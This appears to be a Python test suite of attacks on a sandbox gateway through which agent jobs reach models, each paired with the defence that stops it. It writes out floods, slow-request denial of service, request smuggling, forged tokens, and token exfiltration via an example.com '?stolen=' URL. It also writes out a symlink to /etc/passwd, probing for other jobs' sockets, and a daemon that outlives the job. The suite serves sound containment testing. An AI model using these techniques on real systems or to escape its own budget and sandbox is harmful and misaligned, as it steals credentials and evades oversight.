# ruff: noqa: E501 - requests in one line
"""Attacks on the gateway by which agents reach models."""

from attacks.attack import NOTHING, TIME, Attack, Category

REQUESTS = 5
TOKENS = 20_000
"""What every job of the suite may ask for."""

_SPEAK = '''\
MODEL = JOB["model"]
def knock():
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(3)
    connection.connect(MODEL["socket"])
    return connection
def raw(content, wait=True):
    """Send bytes; the beginning of what comes back."""
    with knock() as connection:
        connection.sendall(content)
        said = b""
        while wait and len(said) < 65536:
            got = connection.recv(65536)
            if not got:
                break
            said += got
        return said
def post(body, token=None, path="/v1/chat/completions", more=""):
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    head = f"POST {path} HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n{more}"
    head += f"authorization: Bearer {MODEL['token'] if token is None else token}\\r\\n"
    return raw(f"{head}content-length: {len(content)}\\r\\n\\r\\n".encode() + content)
def question(text="hello", **more):
    body = {"model": MODEL["role"], "messages": [{"role": "user", "content": text}]}
    return {**body, "max_tokens": 50, **more}
def paid(answer):
    return b" 200 " in answer.split(b"\\r\\n", 1)[0]
def must_fail(what, action, *words, **options):
    try:
        answer = action(*words, **options)
    except OSError as error:
        print("REFUSED", what, ascii(error), flush=True)
        return
    print("GAINED" if paid(answer) else "REFUSED", what, ascii(answer[:300]), flush=True)
if not paid(post(question())):
    print("GAINED nothing: even an honest question was refused")
'''


def _attack(name: str, code: str, tries: str, stopped_by: str, **more: tuple[str, ...]) -> Attack:
    return Attack(
        name=name,
        category=Category.GATEWAY,
        code=_SPEAK + code,
        tries=tries,
        stopped_by=stopped_by,
        reasons=more.get("reasons", (NOTHING,)),
    )


GATEWAY = (
    _attack(
        "flood-of-questions",
        f"""
answers = [post(question(str(number))) for number in range(50)]
if sum(map(paid, answers)) > {REQUESTS - 1}:
    print("GAINED", sum(map(paid, answers)), "answers")
""",
        "Asks ten times as many questions as the job may ask.",
        "Every question is counted before the model is asked, and the cap holds.",
    ),
    _attack(
        "flood-at-once",
        f"""
import threading
answers = []
def ask():
    try: answers.append(post(question()))
    except OSError: pass
threads = [threading.Thread(target=ask) for _ in range(60)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
if sum(map(paid, answers)) > {REQUESTS - 1}:
    print("GAINED", sum(map(paid, answers)), "answers")
""",
        "Asks from sixty threads at once, to slip through between check and count.",
        "Tokens and requests are reserved in one thread before anything is asked.",
    ),
    _attack(
        "many-connections",
        """
kept = []
for _ in range(400):
    try: kept.append(knock())
    except OSError: break
time.sleep(1)
print("held", len(kept))
""",
        "Holds hundreds of connections open and says nothing on them.",
        "A socket takes a few dozen connections, hangs up on silent ones, and is the job's own.",
    ),
    _attack(
        "oversized-body",
        """
head = f"POST /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer {MODEL['token']}\\r\\n"
must_fail("announced", raw, (head + "content-length: 1000000000000\\r\\n\\r\\n").encode())
def stream():
    with knock() as connection:
        connection.sendall((head + "transfer-encoding: chunked\\r\\n\\r\\n").encode())
        block = b"100000\\r\\n" + b"x" * 0x100000 + b"\\r\\n"
        for _ in range(400):
            connection.sendall(block)
        return connection.recv(1000)
must_fail("streamed", stream)
""",
        "Announces a body of a terabyte, and streams another without an end.",
        "Bodies are refused by their announced length and cut at 8 MiB where they announce none.",
    ),
    _attack(
        "slow-body",
        """
def drip():
    with knock() as connection:
        connection.sendall(b"POST /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 900\\r\\n")
        connection.sendall(f"authorization: Bearer {MODEL['token']}\\r\\n\\r\\n".encode())
        while True:
            connection.sendall(b"{")
            time.sleep(0.1)
import threading
for _ in range(20):
    threading.Thread(target=drip, daemon=True).start()
time.sleep(3)
""",
        "Sends twenty bodies a byte at a time and waits.",
        "Few calls may be open at once, a body has 30 seconds, and all end with the job.",
    ),
    _attack(
        "slow-headers",
        """
kept = [knock() for _ in range(20)]
for connection in kept:
    connection.sendall(b"POST /v1/chat")
for _ in range(20):
    time.sleep(0.1)
    for connection in kept:
        try: connection.sendall(b"x")
        except OSError: pass
""",
        "Never ends the headers of its questions.",
        "Headers have a time limit of their own, and the socket is the job's own.",
    ),
    _attack(
        "forged-tokens",
        """
for token in ("", "x", MODEL["token"][:-1], MODEL["token"] + "x", MODEL["token"].swapcase(), "null", "*"):
    must_fail(repr(token), post, question(), token=token)
must_fail("none", raw, b"POST /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 2\\r\\nconnection: close\\r\\n\\r\\n{}")
""",
        "Asks with no token, with parts of its own and with guesses.",
        "Every question needs the job's whole token, which is compared in constant time.",
    ),
    _attack(
        "another-jobs-name",
        """
for more in ("x-job: 1\\r\\n", "x-hgm-job: 99\\r\\n", "x-forwarded-for: 127.0.0.1\\r\\n"):
    answer = post(question(model="improve"), more=more)
    if paid(answer):
        print("GAINED the model of another role")
for model in ("improve", "gpt-5", "claude", "../improve", "", None, 7):
    must_fail(repr(model), post, question(model=model))
""",
        "Asks in another job's name and for the model of another role.",
        "Whose question it is says the socket, not the question; a job has one role.",
    ),
    _attack(
        "unknown-places",
        """
for path in ("/", "/v1", "/v1/../admin", "/v1/chat/completions/../../records", "//v1/files", "/metrics", "/docs", "/openapi.json", "http://example.com/"):
    must_fail(path, post, question(), path=path)
for verb in ("PUT", "DELETE", "CONNECT", "TRACE", "PATCH"):
    must_fail(verb, raw, f"{verb} /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer {MODEL['token']}\\r\\nconnection: close\\r\\n\\r\\n".encode())
""",
        "Looks for other services behind the socket, by other paths and methods.",
        "There are three fixed routes and nothing else.",
    ),
    _attack(
        "smuggled-question",
        f"""
token = MODEL["token"]
inner = json.dumps(question()).encode()
one = f"POST /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer {{token}}\\r\\ncontent-length: {{len(inner)}}\\r\\n\\r\\n".encode() + inner
with knock() as connection:
    connection.sendall(one * 30)
    said = b""
    try:
        while len(said) < 10**6:
            got = connection.recv(65536)
            if not got: break
            said += got
    except OSError: pass
if said.count(b"HTTP/1.1 200") > {REQUESTS - 1}:
    print("GAINED", said.count(b"HTTP/1.1 200"))
both = f"POST /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer {{token}}\\r\\ncontent-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n".encode()
must_fail("two lengths", raw, both + one)
""",
        "Hides questions in the body of others, and sends thirty in one breath.",
        "Every question is parsed, authorized and counted by itself.",
    ),
    _attack(
        "nonsense-bodies",
        """
deep = b"[" * 200000
for body in (b"", b"null", b"[]", b"{", deep, b"\\xff\\xfe", b'{"model": NaN}', b"9" * 100000, json.dumps(question(max_tokens=-5)).encode(),
             json.dumps(question(max_tokens=10**30)).encode(), json.dumps(question(messages=[])).encode(),
             json.dumps(question(messages=[{"role": "system" * 1000, "content": {}}])).encode(),
             json.dumps(question(n=1000)).encode()):
    must_fail(ascii(body[:40]), post, body)
""",
        "Sends what is no JSON, what is too deep, and numbers that are none.",
        "Bodies are checked field by field before anything is reserved.",
    ),
    _attack(
        "forged-reasoning",
        """
ASK, SECRET = {"role": "user", "content": "hi"}, "https://example.com/?stolen=" + MODEL["token"]
picture = {"type": "input_image", "image_url": SECRET}
for provider, item in (
    ("openai", {"type": "message", "role": "user", "content": [picture]}),
    ("openai", {"type": "reasoning", "encrypted_content": "x", "content": [picture]}),
    ("openai", {"type": "item_reference", "id": "rs_1"}),
    ("openai", {"type": "reasoning", "id": "rs_1", "summary": []}),
    ("anthropic", {"type": "image", "source": {"type": "url", "url": SECRET}}),
    ("anthropic", {"type": "thinking", "thinking": [picture], "signature": "x"}),
    ("anthropic", {"type": "redacted_thinking", "data": "x", "source": {"url": SECRET}}),
    ("another", {"url": SECRET}),
):
    said = {"role": "assistant", "content": "x", "reasoning": [{"provider": provider, "item": item}]}
    must_fail(ascii(item), post, question(messages=[ASK, said, ASK]))
for part in (picture, {"type": "image_url", "image_url": {"url": SECRET}}, {"type": "file", "file": {"file_id": "1"}}):
    must_fail(ascii(part), post, question(messages=[{"role": "user", "content": [part]}]))
""",
        "Hands back reasoning of its own making that has the provider fetch an address with a secret.",
        "Reasoning is taken in the providers' own form only: texts, never a part that is fetched.",
    ),
    _attack(
        "more-tokens-than-allowed",
        f"""
must_fail("one long answer", post, question(max_tokens={TOKENS}))
must_fail("one long question", post, question("x" * {TOKENS}))
answer = post(question(max_tokens=1000, n=1))
""",
        "Asks for more tokens than the job has, in the answer and in the question.",
        "The most that a question could use is reserved first and must fit.",
    ),
    _attack(
        "hangs-up",
        f"""
for _ in range(40):
    with knock() as connection:
        body = json.dumps(question(stream=True)).encode()
        connection.sendall(f"POST /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer {{MODEL['token']}}\\r\\ncontent-length: {{len(body)}}\\r\\n\\r\\n".encode() + body)
answers = [post(question()) for _ in range(10)]
if sum(map(paid, answers)) > {REQUESTS - 1}:
    print("GAINED", sum(map(paid, answers)))
""",
        "Asks for streams and hangs up before they come, so that they might not be counted.",
        "A question counts when it is asked, whoever waits for its answer.",
    ),
    _attack(
        "socket-replaced",
        """
folder = os.path.dirname(MODEL["socket"])
attempt("unlink", os.unlink, MODEL["socket"])
attempt("rename", os.rename, MODEL["socket"], MODEL["socket"] + ".old")
attempt("bind", lambda: socket.socket(socket.AF_UNIX).bind(folder + "/other.sock"))
attempt("link", os.symlink, "/etc/passwd", folder + "/link")
attempt("mode", os.chmod, MODEL["socket"], 0o777)
for name in (folder + "/..", folder + "/../..", "/proc/self/root/tmp"):
    for entry in os.listdir(name) if os.path.isdir(name) else ():
        if entry.startswith("hgm-models"):
            print("GAINED a look at", name, entry)
print("SEEN", sorted(os.listdir(folder)))
""",
        "Replaces the socket by one of its own and looks for those of other jobs.",
        "The socket's folder is a read-only mount that holds this one socket.",
    ),
    _attack(
        "questions-after-the-end",
        """
daemon('''
import json, socket, time
while True:
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(%r)
        connection.sendall(%r)
        connection.recv(100)
    except OSError:
        pass
    time.sleep(0.01)
''' % (MODEL["socket"], b"POST /v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer " + MODEL["token"].encode() + b"\\r\\ncontent-length: 2\\r\\n\\r\\n{}"))
time.sleep(0.3)
""",
        "Leaves a daemon behind that goes on asking when the job is over.",
        "All that a command started dies with it, and the socket is gone when the job ends.",
    ),
    _attack(
        "waits-for-the-deadline",
        """
print("TRIED", flush=True)
while True:
    try: post(question())
    except OSError: pass
""",
        "Asks on until its time is over and beyond.",
        "A job's questions end with its time, and so does the job.",
        reasons=(TIME,),
    ),
)
